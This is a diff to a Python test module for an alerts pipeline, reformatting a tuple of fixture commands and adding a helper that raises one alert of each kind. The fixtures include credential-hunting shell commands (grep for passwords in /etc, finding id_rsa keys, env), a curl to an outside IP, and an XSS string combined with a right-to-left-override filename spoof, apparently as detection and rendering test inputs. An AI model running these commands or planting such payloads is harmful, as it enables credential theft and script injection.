@@ -17,7 +17,14 @@ from tests.alerts.pages.world import PACK, World
 
 SEED = "31ca3e19-b904-42e2-9e66-0e3d972ed6cd"
 ROW, WINDOW, MODEL = (f"a11ce000-0000-4000-8000-00000000001{n}" for n in range(3))
-COMMANDS = ("whoami", "grep -r password /etc", "find / -name id_rsa", "curl -s http://203.0.113.9/i", "env | sort", "id")
+COMMANDS = (
+    "whoami",
+    "grep -r password /etc",
+    "find / -name id_rsa",
+    "curl -s http://203.0.113.9/i",
+    "env | sort",
+    "id",
+)
 HOSTILE = "<script>alert(1)</script>\u202egnp.exe"
 LONG = "x" * 900
 RULES = {
@@ -139,3 +146,9 @@ def raised(world: World, documents: Sequence[dict[str, Any]], rule_id: str) -> A
     while settle_due(now=later, worker=uuid4()).rules:
         pass
     return Alert.objects.filter(rule_id=rule_id).latest("pk")
+
+
+def everything(world: World) -> dict[str, Alert]:
+    """An alert of each kind that pipelines raise."""
+    load()
+    return {"group": group(world), "row": row(world), "row of a window": window(world)}
